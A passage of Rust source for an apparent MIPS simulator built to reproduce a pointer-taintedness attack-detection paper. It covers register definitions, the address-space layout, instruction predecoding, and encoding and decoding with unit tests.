    /// Callee-saved register 1.
    pub const S1: Reg = Reg(17);
    /// Callee-saved register 2.
    pub const S2: Reg = Reg(18);
    /// Callee-saved register 3.
    pub const S3: Reg = Reg(19);
    /// Callee-saved register 4.
    pub const S4: Reg = Reg(20);
    /// Callee-saved register 5.
    pub const S5: Reg = Reg(21);
    /// Callee-saved register 6.
    pub const S6: Reg = Reg(22);
    /// Callee-saved register 7.
    pub const S7: Reg = Reg(23);
    /// Caller-saved temporary 8.
    pub const T8: Reg = Reg(24);
    /// Caller-saved temporary 9.
    pub const T9: Reg = Reg(25);
    /// Reserved for kernel 0.
    pub const K0: Reg = Reg(26);
    /// Reserved for kernel 1.
    pub const K1: Reg = Reg(27);
    /// Global pointer.
    pub const GP: Reg = Reg(28);
    /// Stack pointer.
    pub const SP: Reg = Reg(29);
    /// Frame pointer.
    pub const FP: Reg = Reg(30);
    /// Return address, written by `jal`/`jalr`.
    pub const RA: Reg = Reg(31);

    /// Creates a register from its number.
    ///
    /// # Panics
    ///
    /// Panics if `n >= 32`.
    #[must_use]
    pub const fn new(n: u8) -> Reg {
        assert!(n < 32, "register number out of range");
        Reg(n)
    }

    /// Creates a register from the low five bits of an encoded field.
    #[must_use]
    pub const fn from_field(bits: u32) -> Reg {
        Reg((bits & 0x1f) as u8)
    }

    /// The register number in `0..32`.
    #[must_use]
    pub const fn number(self) -> u8 {
        self.0
    }

    /// The register number as a `usize` index.
    #[must_use]
    pub const fn index(self) -> usize {
        self.0 as usize
    }

    /// Whether this is the hardwired zero register.
    #[must_use]
    pub const fn is_zero(self) -> bool {
        self.0 == 0
    }

    /// The conventional o32 ABI name (without the `$` sigil).
    #[must_use]
    pub const fn abi_name(self) -> &'static str {
        const NAMES: [&str; 32] = [
            "zero", "at", "v0", "v1", "a0", "a1", "a2", "a3", "t0", "t1", "t2", "t3", "t4", "t5",
            "t6", "t7", "s0", "s1", "s2", "s3", "s4", "s5", "s6", "s7", "t8", "t9", "k0", "k1",
            "gp", "sp", "fp", "ra",
        ];
        NAMES[self.0 as usize]
    }

    /// Parses a register from assembler syntax: `$3`, `$sp`, `sp`, `$fp`, …
    ///
    /// Returns `None` when the name is not a register.
    #[must_use]
    pub fn parse(name: &str) -> Option<Reg> {
        let name = name.strip_prefix('$').unwrap_or(name);
        if let Ok(n) = name.parse::<u8>() {
            return (n < 32).then_some(Reg(n));
        }
        (0..32u8).map(Reg).find(|r| r.abi_name() == name)
    }

    /// Iterates over all 32 registers in numeric order.
    pub fn all() -> impl Iterator<Item = Reg> {
        (0..32u8).map(Reg)
    }
}

impl fmt::Display for Reg {
    /// Formats in the paper's numeric style: `$3`, `$21`, `$31`.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "${}", self.0)
    }
}

impl From<Reg> for usize {
    fn from(r: Reg) -> usize {
        r.index()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_match_abi_positions() {
        assert_eq!(Reg::ZERO.number(), 0);
        assert_eq!(Reg::V0.number(), 2);
        assert_eq!(Reg::A0.number(), 4);
        assert_eq!(Reg::T0.number(), 8);
        assert_eq!(Reg::S0.number(), 16);
        assert_eq!(Reg::T8.number(), 24);
        assert_eq!(Reg::GP.number(), 28);
        assert_eq!(Reg::SP.number(), 29);
        assert_eq!(Reg::FP.number(), 30);
        assert_eq!(Reg::RA.number(), 31);
    }

    #[test]
    fn parse_accepts_numeric_and_abi_names() {
        assert_eq!(Reg::parse("$31"), Some(Reg::RA));
        assert_eq!(Reg::parse("$ra"), Some(Reg::RA));
        assert_eq!(Reg::parse("ra"), Some(Reg::RA));
        assert_eq!(Reg::parse("$sp"), Some(Reg::SP));
        assert_eq!(Reg::parse("$0"), Some(Reg::ZERO));
        assert_eq!(Reg::parse("zero"), Some(Reg::ZERO));
        assert_eq!(Reg::parse("$32"), None);
        assert_eq!(Reg::parse("bogus"), None);
        assert_eq!(Reg::parse(""), None);
    }

    #[test]
    fn parse_round_trips_every_register() {
        for r in Reg::all() {
            assert_eq!(Reg::parse(&r.to_string()), Some(r));
            assert_eq!(Reg::parse(r.abi_name()), Some(r));
        }
    }

    #[test]
    fn display_is_numeric_like_the_paper() {
        assert_eq!(Reg::new(3).to_string(), "$3");
        assert_eq!(Reg::S5.to_string(), "$21");
    }

    #[test]
    #[should_panic(expected = "register number out of range")]
    fn new_rejects_out_of_range() {
        let _ = Reg::new(32);
    }

    #[test]
    fn from_field_masks_to_five_bits() {
        assert_eq!(Reg::from_field(0xffff_ffe3), Reg::new(3));
    }
}
