//! The virtual address-space layout used by the loader, OS, and guest runtime.
//!
//! The layout matches the classic MIPS/SimpleScalar convention the paper's
//! traces reflect: the WU-FTPD attack of Table 2 targets `0x1002bc20` (static
//! data segment, here based at [`DATA_BASE`]) and the GHTTPD attack pushes a
//! URL string at `0x7fff3e94` (stack, here topped at [`STACK_TOP`]).

/// Bytes per machine word.
pub const WORD_BYTES: u32 = 4;

/// Page granularity of the sparse memory in `ptaint-mem`.
pub const PAGE_SIZE: u32 = 4096;

/// Base virtual address of the text (code) segment.
pub const TEXT_BASE: u32 = 0x0040_0000;

/// Base virtual address of the static data segment.
///
/// Matches the `0x10xx_xxxx` data addresses in the paper's attack transcripts.
pub const DATA_BASE: u32 = 0x1000_0000;

/// Default lowest heap address when a program has no static data; the actual
/// program break starts immediately after the loaded data segment, rounded up
/// to a page.
pub const HEAP_BASE_DEFAULT: u32 = 0x1000_8000;

/// Initial stack pointer. The stack grows down from just below this address;
/// command-line arguments and environment strings are materialized above the
/// initial frame, below [`ARG_BASE`].
pub const STACK_TOP: u32 = 0x7fff_c000;

/// Top of the argv/envp block placed by the loader (grows down from here).
pub const ARG_BASE: u32 = 0x7fff_f000;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    #[allow(clippy::assertions_on_constants)] // the point is documenting layout invariants
    fn segments_are_page_aligned_and_ordered() {
        for base in [TEXT_BASE, DATA_BASE, HEAP_BASE_DEFAULT, STACK_TOP, ARG_BASE] {
            assert_eq!(base % PAGE_SIZE, 0, "segment base {base:#x} unaligned");
        }
        assert!(TEXT_BASE < DATA_BASE);
        assert!(DATA_BASE < HEAP_BASE_DEFAULT);
        assert!(HEAP_BASE_DEFAULT < STACK_TOP);
        assert!(STACK_TOP < ARG_BASE);
    }
}
