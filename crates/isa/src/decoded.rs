//! Flattened, predecoded instruction representation for the cached
//! execution engine.
//!
//! [`DecodedInsn`] pairs an [`Instr`] (the dispatch tag plus register
//! fields) with the operand values that are static properties of the
//! `(pc, word)` pair: sign/zero-extended immediates, the pre-shifted `lui`
//! constant, and absolute branch/jump targets. Predecoding them once per
//! word lets the execute stage skip the extension and target arithmetic
//! on every dynamic execution of a cached instruction.

use crate::insn::{DecodeError, Instr};

/// An instruction plus its pre-extracted operands.
///
/// `imm` and `target` are only meaningful for the variants that use them
/// (see [`DecodedInsn::from_instr`]); both are zero otherwise, so two
/// `DecodedInsn`s built from the same `(pc, word)` always compare equal.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DecodedInsn {
    /// The decoded instruction: dispatch tag and register fields.
    pub instr: Instr,
    /// Pre-extended immediate operand:
    /// - `IAlu`: zero-extended for the logical ops, sign-extended otherwise
    ///   (mirroring [`crate::IAluOp::zero_extends`]);
    /// - `Lui`: the constant already shifted into the upper half-word;
    /// - `Load`/`Store`: the sign-extended displacement, ready for a
    ///   `wrapping_add` with the base register.
    pub imm: u32,
    /// Absolute control-flow target for `Branch`/`BranchZ`
    /// (`pc + 4 + (offset << 2)`) and `Jump`
    /// (`(pc & 0xf000_0000) | (target << 2)`).
    pub target: u32,
}

impl DecodedInsn {
    /// Decodes `word` fetched from `pc` and pre-extracts its operands.
    ///
    /// # Errors
    ///
    /// Propagates [`DecodeError`] from [`Instr::decode`] unchanged, so a
    /// predecoding engine faults on exactly the words the plain decoder
    /// faults on.
    pub fn predecode(pc: u32, word: u32) -> Result<DecodedInsn, DecodeError> {
        Ok(DecodedInsn::from_instr(pc, Instr::decode(word)?))
    }

    /// Pre-extracts the operands of an already decoded instruction at `pc`.
    #[must_use]
    pub fn from_instr(pc: u32, instr: Instr) -> DecodedInsn {
        let (imm, target) = match instr {
            Instr::IAlu { op, imm, .. } => {
                let ext = if op.zero_extends() {
                    u32::from(imm as u16)
                } else {
                    imm as i32 as u32
                };
                (ext, 0)
            }
            Instr::Lui { imm, .. } => (u32::from(imm) << 16, 0),
            Instr::Load { offset, .. } | Instr::Store { offset, .. } => (offset as i32 as u32, 0),
            Instr::Branch { offset, .. } | Instr::BranchZ { offset, .. } => {
                (0, branch_target(pc, offset))
            }
            Instr::Jump { target, .. } => (0, (pc & 0xf000_0000) | (target << 2)),
            _ => (0, 0),
        };
        DecodedInsn { instr, imm, target }
    }
}

/// PC-relative branch target: `pc + 4 + (sign-extended offset << 2)`.
fn branch_target(pc: u32, offset: i16) -> u32 {
    pc.wrapping_add(4)
        .wrapping_add((i32::from(offset) << 2) as u32)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::insn::{BranchCond, IAluOp, MemWidth};
    use crate::reg::Reg;

    fn predecode(pc: u32, instr: Instr) -> DecodedInsn {
        DecodedInsn::predecode(pc, instr.encode()).unwrap()
    }

    #[test]
    fn arithmetic_immediates_sign_extend() {
        let d = predecode(
            0x40_0000,
            Instr::IAlu {
                op: IAluOp::Addiu,
                rt: Reg::new(8),
                rs: Reg::new(9),
                imm: -4,
            },
        );
        assert_eq!(d.imm, 0xffff_fffc);
    }

    #[test]
    fn logical_immediates_zero_extend() {
        let d = predecode(
            0x40_0000,
            Instr::IAlu {
                op: IAluOp::Ori,
                rt: Reg::new(8),
                rs: Reg::new(9),
                imm: -4,
            },
        );
        assert_eq!(d.imm, 0x0000_fffc);
    }

    #[test]
    fn lui_constant_is_pre_shifted() {
        let d = predecode(
            0x40_0000,
            Instr::Lui {
                rt: Reg::new(8),
                imm: 0x1234,
            },
        );
        assert_eq!(d.imm, 0x1234_0000);
    }

    #[test]
    fn load_displacement_sign_extends() {
        let d = predecode(
            0x40_0000,
            Instr::Load {
                width: MemWidth::Word,
                signed: true,
                rt: Reg::new(8),
                base: Reg::new(29),
                offset: -8,
            },
        );
        assert_eq!(d.imm, 0xffff_fff8);
    }

    #[test]
    fn branch_target_is_absolute() {
        let d = predecode(
            0x40_0010,
            Instr::Branch {
                cond: BranchCond::Ne,
                rs: Reg::new(8),
                rt: Reg::new(9),
                offset: -2,
            },
        );
        assert_eq!(d.target, 0x40_000c);
    }

    #[test]
    fn jump_target_keeps_pc_high_bits() {
        let d = predecode(
            0x40_0010,
            Instr::Jump {
                target: 0x10_0040,
                link: false,
            },
        );
        assert_eq!(d.target, 0x40_0100);
    }

    #[test]
    fn bad_words_fault_like_the_plain_decoder() {
        let word = 0xffff_ffff;
        let err = DecodedInsn::predecode(0x40_0000, word).unwrap_err();
        assert_eq!(err, Instr::decode(word).unwrap_err());
    }
}
