//! Instruction formats, binary encoding, decoding and disassembly.
//!
//! The binary encoding follows the classic MIPS I opcode map so that
//! disassembly output reads exactly like the instruction traces in the DSN
//! 2005 paper (`sw $21,0($3)`, `lw $3,0($3)`, `jr $31`, …).

use std::fmt;

use crate::Reg;

/// Register-register ALU operations (`funct` field of R-type encodings).
///
/// These are the "generic" ALU instructions of the paper's Table 1: the
/// taintedness of the destination is the bytewise OR of the sources' —
/// except for the special-cased `And` (untaint on AND with untainted zero),
/// `Xor` (the `xor r,s,s` zeroing idiom untaints), and the compare
/// instructions `Slt`/`Sltu` (which *untaint their operands*, modelling
/// input-validation code).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RAluOp {
    /// Signed addition (traps on overflow in real MIPS; we wrap like ADDU).
    Add,
    /// Unsigned (wrapping) addition.
    Addu,
    /// Signed subtraction.
    Sub,
    /// Unsigned (wrapping) subtraction.
    Subu,
    /// Bitwise AND.
    And,
    /// Bitwise OR.
    Or,
    /// Bitwise XOR.
    Xor,
    /// Bitwise NOR.
    Nor,
    /// Set on less-than, signed comparison.
    Slt,
    /// Set on less-than, unsigned comparison.
    Sltu,
}

impl RAluOp {
    /// Whether this is a compare instruction in the sense of Table 1
    /// (its operands are untainted after execution).
    #[must_use]
    pub const fn is_compare(self) -> bool {
        matches!(self, RAluOp::Slt | RAluOp::Sltu)
    }

    const fn funct(self) -> u32 {
        match self {
            RAluOp::Add => 0x20,
            RAluOp::Addu => 0x21,
            RAluOp::Sub => 0x22,
            RAluOp::Subu => 0x23,
            RAluOp::And => 0x24,
            RAluOp::Or => 0x25,
            RAluOp::Xor => 0x26,
            RAluOp::Nor => 0x27,
            RAluOp::Slt => 0x2a,
            RAluOp::Sltu => 0x2b,
        }
    }

    /// Assembler mnemonic.
    #[must_use]
    pub const fn mnemonic(self) -> &'static str {
        match self {
            RAluOp::Add => "add",
            RAluOp::Addu => "addu",
            RAluOp::Sub => "sub",
            RAluOp::Subu => "subu",
            RAluOp::And => "and",
            RAluOp::Or => "or",
            RAluOp::Xor => "xor",
            RAluOp::Nor => "nor",
            RAluOp::Slt => "slt",
            RAluOp::Sltu => "sltu",
        }
    }

    /// All register-register ALU operations.
    pub const ALL: [RAluOp; 10] = [
        RAluOp::Add,
        RAluOp::Addu,
        RAluOp::Sub,
        RAluOp::Subu,
        RAluOp::And,
        RAluOp::Or,
        RAluOp::Xor,
        RAluOp::Nor,
        RAluOp::Slt,
        RAluOp::Sltu,
    ];
}

/// Shift operations; used by both immediate-shamt and register-variable forms.
///
/// Per Table 1, shifts smear taintedness to the adjacent byte along the shift
/// direction in addition to the generic propagation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ShiftOp {
    /// Shift left logical.
    Sll,
    /// Shift right logical.
    Srl,
    /// Shift right arithmetic.
    Sra,
}

impl ShiftOp {
    /// Whether the shift moves bits toward more significant positions.
    #[must_use]
    pub const fn is_left(self) -> bool {
        matches!(self, ShiftOp::Sll)
    }

    const fn funct_imm(self) -> u32 {
        match self {
            ShiftOp::Sll => 0x00,
            ShiftOp::Srl => 0x02,
            ShiftOp::Sra => 0x03,
        }
    }

    const fn funct_var(self) -> u32 {
        match self {
            ShiftOp::Sll => 0x04,
            ShiftOp::Srl => 0x06,
            ShiftOp::Sra => 0x07,
        }
    }

    /// Assembler mnemonic of the immediate form; the variable form appends `v`.
    #[must_use]
    pub const fn mnemonic(self) -> &'static str {
        match self {
            ShiftOp::Sll => "sll",
            ShiftOp::Srl => "srl",
            ShiftOp::Sra => "sra",
        }
    }

    /// All shift operations.
    pub const ALL: [ShiftOp; 3] = [ShiftOp::Sll, ShiftOp::Srl, ShiftOp::Sra];
}

/// Multiply/divide operations writing the `HI`/`LO` register pair.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MulDivOp {
    /// Signed 32×32→64 multiply.
    Mult,
    /// Unsigned 32×32→64 multiply.
    Multu,
    /// Signed divide: `LO = rs / rt`, `HI = rs % rt`.
    Div,
    /// Unsigned divide.
    Divu,
}

impl MulDivOp {
    const fn funct(self) -> u32 {
        match self {
            MulDivOp::Mult => 0x18,
            MulDivOp::Multu => 0x19,
            MulDivOp::Div => 0x1a,
            MulDivOp::Divu => 0x1b,
        }
    }

    /// Assembler mnemonic.
    #[must_use]
    pub const fn mnemonic(self) -> &'static str {
        match self {
            MulDivOp::Mult => "mult",
            MulDivOp::Multu => "multu",
            MulDivOp::Div => "div",
            MulDivOp::Divu => "divu",
        }
    }

    /// All multiply/divide operations.
    pub const ALL: [MulDivOp; 4] = [
        MulDivOp::Mult,
        MulDivOp::Multu,
        MulDivOp::Div,
        MulDivOp::Divu,
    ];
}

/// Immediate ALU operations (I-type encodings).
///
/// For `Andi`/`Ori`/`Xori` the immediate is zero-extended at execution; for
/// the rest it is sign-extended. `Slti`/`Sltiu` count as compare instructions
/// for taint purposes (they untaint their register operand).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IAluOp {
    /// Add immediate (wrapping, like Addiu, to keep the ISA total).
    Addi,
    /// Add immediate unsigned (wrapping).
    Addiu,
    /// Set on less-than immediate, signed.
    Slti,
    /// Set on less-than immediate, unsigned.
    Sltiu,
    /// AND with zero-extended immediate.
    Andi,
    /// OR with zero-extended immediate.
    Ori,
    /// XOR with zero-extended immediate.
    Xori,
}

impl IAluOp {
    /// Whether the immediate is zero-extended (logical ops) rather than
    /// sign-extended.
    #[must_use]
    pub const fn zero_extends(self) -> bool {
        matches!(self, IAluOp::Andi | IAluOp::Ori | IAluOp::Xori)
    }

    /// Whether this is a compare instruction in the sense of Table 1.
    #[must_use]
    pub const fn is_compare(self) -> bool {
        matches!(self, IAluOp::Slti | IAluOp::Sltiu)
    }

    const fn opcode(self) -> u32 {
        match self {
            IAluOp::Addi => 0x08,
            IAluOp::Addiu => 0x09,
            IAluOp::Slti => 0x0a,
            IAluOp::Sltiu => 0x0b,
            IAluOp::Andi => 0x0c,
            IAluOp::Ori => 0x0d,
            IAluOp::Xori => 0x0e,
        }
    }

    /// Assembler mnemonic.
    #[must_use]
    pub const fn mnemonic(self) -> &'static str {
        match self {
            IAluOp::Addi => "addi",
            IAluOp::Addiu => "addiu",
            IAluOp::Slti => "slti",
            IAluOp::Sltiu => "sltiu",
            IAluOp::Andi => "andi",
            IAluOp::Ori => "ori",
            IAluOp::Xori => "xori",
        }
    }

    /// All immediate ALU operations.
    pub const ALL: [IAluOp; 7] = [
        IAluOp::Addi,
        IAluOp::Addiu,
        IAluOp::Slti,
        IAluOp::Sltiu,
        IAluOp::Andi,
        IAluOp::Ori,
        IAluOp::Xori,
    ];
}

/// Access width of a load or store.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MemWidth {
    /// One byte.
    Byte,
    /// Two bytes (halfword); address must be 2-aligned.
    Half,
    /// Four bytes (word); address must be 4-aligned.
    Word,
}

impl MemWidth {
    /// Number of bytes accessed.
    #[must_use]
    pub const fn bytes(self) -> u32 {
        match self {
            MemWidth::Byte => 1,
            MemWidth::Half => 2,
            MemWidth::Word => 4,
        }
    }
}

/// Two-register branch conditions (`beq`, `bne`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BranchCond {
    /// Branch when equal.
    Eq,
    /// Branch when not equal.
    Ne,
}

/// Compare-with-zero branch conditions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BranchZCond {
    /// Branch when `rs <= 0` (signed).
    Lez,
    /// Branch when `rs > 0` (signed).
    Gtz,
    /// Branch when `rs < 0` (signed).
    Ltz,
    /// Branch when `rs >= 0` (signed).
    Gez,
}

impl BranchZCond {
    /// Assembler mnemonic.
    #[must_use]
    pub const fn mnemonic(self) -> &'static str {
        match self {
            BranchZCond::Lez => "blez",
            BranchZCond::Gtz => "bgtz",
            BranchZCond::Ltz => "bltz",
            BranchZCond::Gez => "bgez",
        }
    }
}

/// A decoded machine instruction.
///
/// The enum is grouped by execution semantics rather than by encoding format,
/// which keeps the CPU's execute loop and the taint-tracking ALU
/// (`ptaint-cpu`) free of encoding details.
///
/// ```
/// use ptaint_isa::{Instr, Reg, MemWidth};
///
/// // The store instruction from the paper's Table 2 alert: `sw $21,0($3)`.
/// let sw = Instr::Store { width: MemWidth::Word, rt: Reg::new(21), base: Reg::new(3), offset: 0 };
/// assert_eq!(sw.to_string(), "sw $21,0($3)");
/// assert!(sw.dereferences_pointer());
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Instr {
    /// Shift by immediate amount: `op rd, rt, shamt`.
    Shift {
        /// Shift kind.
        op: ShiftOp,
        /// Destination register.
        rd: Reg,
        /// Operand register.
        rt: Reg,
        /// Shift amount in `0..32`.
        shamt: u8,
    },
    /// Shift by register amount: `opv rd, rt, rs` (low 5 bits of `rs`).
    ShiftV {
        /// Shift kind.
        op: ShiftOp,
        /// Destination register.
        rd: Reg,
        /// Operand register.
        rt: Reg,
        /// Register holding the shift amount.
        rs: Reg,
    },
    /// Register-register ALU: `op rd, rs, rt`.
    RAlu {
        /// Operation.
        op: RAluOp,
        /// Destination register.
        rd: Reg,
        /// First source.
        rs: Reg,
        /// Second source.
        rt: Reg,
    },
    /// Multiply or divide into `HI`/`LO`.
    MulDiv {
        /// Operation.
        op: MulDivOp,
        /// First source.
        rs: Reg,
        /// Second source.
        rt: Reg,
    },
    /// `mfhi rd` — move from `HI`.
    MoveFromHi {
        /// Destination register.
        rd: Reg,
    },
    /// `mflo rd` — move from `LO`.
    MoveFromLo {
        /// Destination register.
        rd: Reg,
    },
    /// `mthi rs` — move to `HI`.
    MoveToHi {
        /// Source register.
        rs: Reg,
    },
    /// `mtlo rs` — move to `LO`.
    MoveToLo {
        /// Source register.
        rs: Reg,
    },
    /// Immediate ALU: `op rt, rs, imm`.
    IAlu {
        /// Operation.
        op: IAluOp,
        /// Destination register.
        rt: Reg,
        /// Source register.
        rs: Reg,
        /// Immediate (raw 16 bits; extension depends on `op`).
        imm: i16,
    },
    /// `lui rt, imm` — load upper immediate. The result is a program constant
    /// and therefore untainted.
    Lui {
        /// Destination register.
        rt: Reg,
        /// Upper 16 bits of the result.
        imm: u16,
    },
    /// Memory load: `l{b,h,w}[u] rt, offset(base)`.
    ///
    /// This instruction *dereferences a pointer* (`base + offset`): the
    /// pointer-taintedness detector checks the taint bits of `base`'s word.
    Load {
        /// Access width.
        width: MemWidth,
        /// Whether sub-word results are sign-extended.
        signed: bool,
        /// Destination register.
        rt: Reg,
        /// Base address register — the pointer being dereferenced.
        base: Reg,
        /// Signed byte offset.
        offset: i16,
    },
    /// Memory store: `s{b,h,w} rt, offset(base)`. Also a pointer dereference.
    Store {
        /// Access width.
        width: MemWidth,
        /// Source register.
        rt: Reg,
        /// Base address register — the pointer being dereferenced.
        base: Reg,
        /// Signed byte offset.
        offset: i16,
    },
    /// Conditional branch comparing two registers.
    ///
    /// Branches are compare instructions in the sense of Table 1: their
    /// operands are untainted (input-validation idiom).
    Branch {
        /// Condition.
        cond: BranchCond,
        /// First operand.
        rs: Reg,
        /// Second operand.
        rt: Reg,
        /// Signed offset in *instructions* relative to the next instruction.
        offset: i16,
    },
    /// Conditional branch comparing one register against zero.
    BranchZ {
        /// Condition.
        cond: BranchZCond,
        /// Operand register.
        rs: Reg,
        /// Signed offset in instructions relative to the next instruction.
        offset: i16,
    },
    /// Unconditional jump to an absolute word index within the current 256 MiB
    /// region; `link` stores the return address in `$ra` (`jal`).
    Jump {
        /// Word index (byte address divided by four, low 26 bits).
        target: u32,
        /// Whether to write the return address to `$ra`.
        link: bool,
    },
    /// `jr rs` — register-indirect jump. This is *the* control transfer the
    /// paper's jump taintedness detector guards (function returns use
    /// `jr $31`).
    JumpReg {
        /// Register holding the target address.
        rs: Reg,
    },
    /// `jalr rd, rs` — register-indirect call, return address into `rd`.
    JumpAndLinkReg {
        /// Register receiving the return address.
        rd: Reg,
        /// Register holding the target address.
        rs: Reg,
    },
    /// Trap into the virtual operating system (`v0` holds the syscall number).
    Syscall,
    /// Software breakpoint / abort with a code.
    Break {
        /// Break code (20 bits).
        code: u32,
    },
}

/// An undecodable instruction word.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DecodeError {
    /// The raw instruction word that failed to decode.
    pub word: u32,
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "illegal instruction word {:#010x}", self.word)
    }
}

impl std::error::Error for DecodeError {}

const OP_SPECIAL: u32 = 0x00;
const OP_REGIMM: u32 = 0x01;
const OP_J: u32 = 0x02;
const OP_JAL: u32 = 0x03;
const OP_BEQ: u32 = 0x04;
const OP_BNE: u32 = 0x05;
const OP_BLEZ: u32 = 0x06;
const OP_BGTZ: u32 = 0x07;
const OP_LUI: u32 = 0x0f;
const OP_LB: u32 = 0x20;
const OP_LH: u32 = 0x21;
const OP_LW: u32 = 0x23;
const OP_LBU: u32 = 0x24;
const OP_LHU: u32 = 0x25;
const OP_SB: u32 = 0x28;
const OP_SH: u32 = 0x29;
const OP_SW: u32 = 0x2b;

fn r_type(funct: u32, rs: Reg, rt: Reg, rd: Reg, shamt: u32) -> u32 {
    (u32::from(rs.number()) << 21)
        | (u32::from(rt.number()) << 16)
        | (u32::from(rd.number()) << 11)
        | ((shamt & 0x1f) << 6)
        | (funct & 0x3f)
}

fn i_type(opcode: u32, rs: Reg, rt: Reg, imm: u16) -> u32 {
    (opcode << 26)
        | (u32::from(rs.number()) << 21)
        | (u32::from(rt.number()) << 16)
        | u32::from(imm)
}

impl Instr {
    /// A canonical no-op (`sll $0,$0,0`).
    pub const NOP: Instr = Instr::Shift {
        op: ShiftOp::Sll,
        rd: Reg::ZERO,
        rt: Reg::ZERO,
        shamt: 0,
    };

    /// Encodes the instruction into its 32-bit binary form.
    #[must_use]
    pub fn encode(&self) -> u32 {
        match *self {
            Instr::Shift { op, rd, rt, shamt } => {
                r_type(op.funct_imm(), Reg::ZERO, rt, rd, u32::from(shamt))
            }
            Instr::ShiftV { op, rd, rt, rs } => r_type(op.funct_var(), rs, rt, rd, 0),
            Instr::RAlu { op, rd, rs, rt } => r_type(op.funct(), rs, rt, rd, 0),
            Instr::MulDiv { op, rs, rt } => r_type(op.funct(), rs, rt, Reg::ZERO, 0),
            Instr::MoveFromHi { rd } => r_type(0x10, Reg::ZERO, Reg::ZERO, rd, 0),
            Instr::MoveToHi { rs } => r_type(0x11, rs, Reg::ZERO, Reg::ZERO, 0),
            Instr::MoveFromLo { rd } => r_type(0x12, Reg::ZERO, Reg::ZERO, rd, 0),
            Instr::MoveToLo { rs } => r_type(0x13, rs, Reg::ZERO, Reg::ZERO, 0),
            Instr::JumpReg { rs } => r_type(0x08, rs, Reg::ZERO, Reg::ZERO, 0),
            Instr::JumpAndLinkReg { rd, rs } => r_type(0x09, rs, Reg::ZERO, rd, 0),
            Instr::Syscall => 0x0c,
            Instr::Break { code } => ((code & 0xf_ffff) << 6) | 0x0d,
            Instr::IAlu { op, rt, rs, imm } => i_type(op.opcode(), rs, rt, imm as u16),
            Instr::Lui { rt, imm } => i_type(OP_LUI, Reg::ZERO, rt, imm),
            Instr::Load {
                width,
                signed,
                rt,
                base,
                offset,
            } => {
                let opcode = match (width, signed) {
                    (MemWidth::Byte, true) => OP_LB,
                    (MemWidth::Byte, false) => OP_LBU,
                    (MemWidth::Half, true) => OP_LH,
                    (MemWidth::Half, false) => OP_LHU,
                    (MemWidth::Word, _) => OP_LW,
                };
                i_type(opcode, base, rt, offset as u16)
            }
            Instr::Store {
                width,
                rt,
                base,
                offset,
            } => {
                let opcode = match width {
                    MemWidth::Byte => OP_SB,
                    MemWidth::Half => OP_SH,
                    MemWidth::Word => OP_SW,
                };
                i_type(opcode, base, rt, offset as u16)
            }
            Instr::Branch {
                cond,
                rs,
                rt,
                offset,
            } => {
                let opcode = match cond {
                    BranchCond::Eq => OP_BEQ,
                    BranchCond::Ne => OP_BNE,
                };
                i_type(opcode, rs, rt, offset as u16)
            }
            Instr::BranchZ { cond, rs, offset } => match cond {
                BranchZCond::Lez => i_type(OP_BLEZ, rs, Reg::ZERO, offset as u16),
                BranchZCond::Gtz => i_type(OP_BGTZ, rs, Reg::ZERO, offset as u16),
                BranchZCond::Ltz => i_type(OP_REGIMM, rs, Reg::new(0), offset as u16),
                BranchZCond::Gez => i_type(OP_REGIMM, rs, Reg::new(1), offset as u16),
            },
            Instr::Jump { target, link } => {
                let opcode = if link { OP_JAL } else { OP_J };
                (opcode << 26) | (target & 0x03ff_ffff)
            }
        }
    }

    /// Decodes a 32-bit instruction word.
    ///
    /// # Errors
    ///
    /// Returns [`DecodeError`] when the word does not correspond to any
    /// instruction of this ISA.
    pub fn decode(word: u32) -> Result<Instr, DecodeError> {
        let opcode = word >> 26;
        let rs = Reg::from_field(word >> 21);
        let rt = Reg::from_field(word >> 16);
        let rd = Reg::from_field(word >> 11);
        let shamt = ((word >> 6) & 0x1f) as u8;
        let imm = (word & 0xffff) as u16 as i16;
        let err = DecodeError { word };

        let insn = match opcode {
            OP_SPECIAL => match word & 0x3f {
                0x00 => Instr::Shift {
                    op: ShiftOp::Sll,
                    rd,
                    rt,
                    shamt,
                },
                0x02 => Instr::Shift {
                    op: ShiftOp::Srl,
                    rd,
                    rt,
                    shamt,
                },
                0x03 => Instr::Shift {
                    op: ShiftOp::Sra,
                    rd,
                    rt,
                    shamt,
                },
                0x04 => Instr::ShiftV {
                    op: ShiftOp::Sll,
                    rd,
                    rt,
                    rs,
                },
                0x06 => Instr::ShiftV {
                    op: ShiftOp::Srl,
                    rd,
                    rt,
                    rs,
                },
                0x07 => Instr::ShiftV {
                    op: ShiftOp::Sra,
                    rd,
                    rt,
                    rs,
                },
                0x08 => Instr::JumpReg { rs },
                0x09 => Instr::JumpAndLinkReg { rd, rs },
                0x0c => Instr::Syscall,
                0x0d => Instr::Break {
                    code: (word >> 6) & 0xf_ffff,
                },
                0x10 => Instr::MoveFromHi { rd },
                0x11 => Instr::MoveToHi { rs },
                0x12 => Instr::MoveFromLo { rd },
                0x13 => Instr::MoveToLo { rs },
                0x18 => Instr::MulDiv {
                    op: MulDivOp::Mult,
                    rs,
                    rt,
                },
                0x19 => Instr::MulDiv {
                    op: MulDivOp::Multu,
                    rs,
                    rt,
                },
                0x1a => Instr::MulDiv {
                    op: MulDivOp::Div,
                    rs,
                    rt,
                },
                0x1b => Instr::MulDiv {
                    op: MulDivOp::Divu,
                    rs,
                    rt,
                },
                0x20 => Instr::RAlu {
                    op: RAluOp::Add,
                    rd,
                    rs,
                    rt,
                },
                0x21 => Instr::RAlu {
                    op: RAluOp::Addu,
                    rd,
